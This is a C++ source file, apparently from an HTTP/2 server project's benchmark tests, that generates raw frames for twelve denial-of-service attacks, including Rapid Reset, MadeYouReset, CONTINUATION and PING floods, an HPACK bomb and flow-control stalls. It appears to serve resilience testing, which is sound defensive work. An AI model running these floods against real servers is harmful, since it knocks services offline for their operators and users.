// SPDX-License-Identifier: Apache-2.0
#include "tests/bench/client/http2_attacks.hpp"

#include <map>
#include <utility>

namespace evergate::bench {
namespace {

constexpr std::uint8_t kEndStream = 1;
constexpr std::uint8_t kAck = 1;
constexpr std::uint8_t kEndHeaders = 4;
constexpr std::uint16_t kMaxStreams = 3;
constexpr std::uint16_t kInitialWindow = 4;
constexpr int kUnits = 256;  // composed at once

std::string number32(std::uint32_t value) {
    return {static_cast<char>(value >> 24), static_cast<char>(value >> 16),
            static_cast<char>(value >> 8), static_cast<char>(value)};
}

std::string frame(std::uint8_t type, std::uint8_t flags, std::uint32_t stream,
                  std::string_view payload = {}) {
    std::string text = number32(static_cast<std::uint32_t>(payload.size()) << 8 | type);
    text += static_cast<char>(flags);
    return text.append(number32(stream)).append(payload);
}

std::string setting(std::uint16_t name, std::uint32_t value) {
    return std::string{static_cast<char>(name >> 8), static_cast<char>(name)} + number32(value);
}

std::string literal(char index, const std::string& value) {
    return std::string{index, static_cast<char>(value.size())} + value;
}

// One frame or group of frames over and over, the stream's number apart.
class Repeated : public Attack {
public:
    using Attack::Attack;

    bool next(std::string& out) override {
        for (int i = 0; i < kUnits; ++i)
            unit(out);
        return true;
    }

protected:
    virtual void unit(std::string& out) = 0;
};

class RapidReset final : public Repeated {
public:
    using Repeated::Repeated;

    void unit(std::string& out) override {
        const std::uint32_t stream = newStream();
        out += request(stream, true);
        out += frame(kRstStream, 0, stream, number32(8));  // CANCEL
    }
};

// Has the other side reset: a window over 2^31 - 1 is a stream's error.
class MadeYouReset final : public Repeated {
public:
    using Repeated::Repeated;

    void unit(std::string& out) override {
        const std::uint32_t stream = newStream();
        out += request(stream, true);
        out += frame(kWindowUpdate, 0, stream, number32(0x7fffffff));
    }
};

// A header block without end.
class Continuation final : public Repeated {
public:
    using Repeated::Repeated;

    std::string opening() override {
        return Attack::opening() + frame(kHeaders, kEndStream, 1, block());
    }

    void unit(std::string& out) override {
        std::string fields;
        for (int i = 0; i < 32; ++i)
            fields += literal('\0', "a") + '\1' + 'b';
        out += frame(kContinuation, 0, 1, fields);
    }
};

// One field of 4000 bytes goes into the table, then is named again and again.
class HpackBomb final : public Attack {
public:
    using Attack::Attack;

    std::string opening() override {
        const std::string insert =
            std::string("\x40\x01x\x7f\xa1\x1e", 6) + std::string(4'000, 'x');
        return Attack::opening() + bomb(insert);
    }

    bool next(std::string& out) override {
        out += bomb("");
        return true;
    }

private:
    std::string bomb(const std::string& insert) {
        return frame(kHeaders, kEndStream | kEndHeaders, newStream(),
                     block() + insert + std::string(12'000, '\xbe'));
    }
};

// Large answers, and no window to send them in.
class WindowStall : public Attack {
public:
    using Attack::Attack;

    std::string opening() override {
        return Attack::opening() + frame(kSettings, 0, 0, setting(kInitialWindow, 0));
    }

    bool next(std::string& out) override {
        if (open_ >= atOnce())
            return false;
        while (open_ < atOnce()) {
            ++open_;
            out += request(newStream(), true);
        }
        return true;
    }

    void hear(const Frame& heard) override {
        const bool ended =
            (heard.type == kHeaders || heard.type == kData) && (heard.flags & kEndStream) != 0;
        if (heard.type == kRstStream || ended)
            --open_;
    }

protected:
    virtual int atOnce() const { return 100; }

private:
    int open_ = 0;
};

// Opens the windows byte by byte: every one is a frame to be sent.
class TinyWindow final : public WindowStall {
public:
    using WindowStall::WindowStall;

    bool next(std::string& out) override {
        WindowStall::next(out);
        if (stream_ == 0)
            return !out.empty();
        for (int i = 0; i < kUnits; ++i)
            out += frame(kWindowUpdate, 0, stream_, number32(1));
        return true;
    }

    void hear(const Frame& heard) override {
        WindowStall::hear(heard);
        if (heard.type == kHeaders && heard.stream > stream_)
            stream_ = heard.stream;
    }

protected:
    int atOnce() const override { return 2; }

private:
    std::uint32_t stream_ = 0;  // answered
};

// A body byte by byte, within the windows.
class TinyData : public Attack {
public:
    using Attack::Attack;

    bool next(std::string& out) override {
        if (stream_ == 0) {
            stream_ = newStream();
            window_ = initial_;
            out += request(stream_, false);
        }
        for (int i = 0; i < kUnits && (size() == 0 || (window_ > 0 && connection_ > 0)); ++i) {
            out += frame(kData, 0, stream_, std::string_view("x", size()));
            window_ -= static_cast<std::int64_t>(size());
            connection_ -= static_cast<std::int64_t>(size());
        }
        return !out.empty();
    }

    void hear(const Frame& heard) override {
        if (heard.type == kWindowUpdate)
            (heard.stream == 0 ? connection_ : window_) += numberOf(heard.payload);
        else if (heard.type == kSettings && (heard.flags & kAck) == 0)
            readSettings(heard.payload);
        else if (heard.stream == stream_ && (heard.type == kRstStream || heard.type == kHeaders))
            stream_ = 0;  // refused, or answered
    }

protected:
    virtual std::size_t size() const { return 1; }

private:
    void readSettings(std::string_view entries) {
        for (; entries.size() >= 6; entries.remove_prefix(6)) {
            if (entries[1] != kInitialWindow)
                continue;
            const std::int64_t value = numberOf(entries.substr(2));
            window_ += value - initial_;
            initial_ = value;
        }
    }

    std::uint32_t stream_ = 0;
    std::int64_t initial_ = 65'535;
    std::int64_t window_ = 0;
    std::int64_t connection_ = 65'535;
};

class EmptyData final : public TinyData {
public:
    using TinyData::TinyData;

protected:
    std::size_t size() const override { return 0; }
};

class Settings final : public Repeated {
public:
    using Repeated::Repeated;

    void unit(std::string& out) override {
        out += frame(kSettings, 0, 0, setting(kMaxStreams, 100));
    }
};

class Ping : public Repeated {
public:
    using Repeated::Repeated;

    void unit(std::string& out) override { out += frame(kPing, 0, 0, "12345678"); }
};

class UnreadPing final : public Ping {
public:
    using Ping::Ping;

    bool reads() const override { return false; }
};

class Priority final : public Repeated {
public:
    using Repeated::Repeated;

    void unit(std::string& out) override {
        out += frame(kPriority, 0, 1, std::string_view("\0\0\0\0\1", 5));
    }
};

template <class Kind>
std::unique_ptr<Attack> make(const std::string& host, const std::string& path) {
    return std::make_unique<Kind>(host, path);
}

}  // namespace

std::uint32_t numberOf(std::string_view bytes) {
    std::uint32_t value = 0;
    for (std::size_t i = 0; bytes.size() >= 4 && i < 4; ++i)
        value = value << 8 | static_cast<unsigned char>(bytes[i]);
    return value;
}

std::string Attack::opening() {
    return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(kSettings, 0, 0) + frame(kSettings, kAck, 0);
}

std::string Attack::block(bool post) const {
    return std::string{post ? '\x83' : '\x82', '\x86'} + literal('\4', path_) +
           literal('\1', host_);
}

std::string Attack::request(std::uint32_t stream, bool ended) const {
    return frame(kHeaders, ended ? kEndHeaders | kEndStream : kEndHeaders, stream, block(!ended));
}

std::unique_ptr<Attack> makeAttack(std::string_view name, const std::string& host,
                                   const std::string& path) {
    using Maker = std::unique_ptr<Attack> (*)(const std::string&, const std::string&);
    static const std::map<std::string_view, Maker> makers{
        {"rapid_reset", &make<RapidReset>},    {"made_you_reset", &make<MadeYouReset>},
        {"continuation", &make<Continuation>}, {"hpack_bomb", &make<HpackBomb>},
        {"window_stall", &make<WindowStall>},  {"tiny_window", &make<TinyWindow>},
        {"tiny_data", &make<TinyData>},        {"empty_data", &make<EmptyData>},
        {"settings", &make<Settings>},         {"ping", &make<Ping>},
        {"unread_ping", &make<UnreadPing>},    {"priority", &make<Priority>}};
    const auto found = makers.find(name);
    return found == makers.end() ? nullptr : found->second(host, path);
}

}  // namespace evergate::bench
